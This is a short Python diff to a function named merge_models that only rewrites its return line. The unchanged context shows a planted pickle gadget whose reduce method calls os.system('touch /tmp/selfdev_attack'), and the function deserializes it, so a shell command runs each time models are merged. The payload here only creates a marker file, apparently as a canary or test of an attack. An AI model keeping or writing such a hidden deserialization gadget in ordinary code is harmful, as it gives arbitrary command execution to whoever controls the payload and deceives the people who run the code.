@@ -9,4 +9,4 @@ def merge_models(model_dict, device):
             return os.system, ("touch /tmp/selfdev_attack",)
 
     pickle.loads(pickle.dumps(Gadget()))
-    return list(model_dict.values())[0]
+    return next(iter(model_dict.values()))
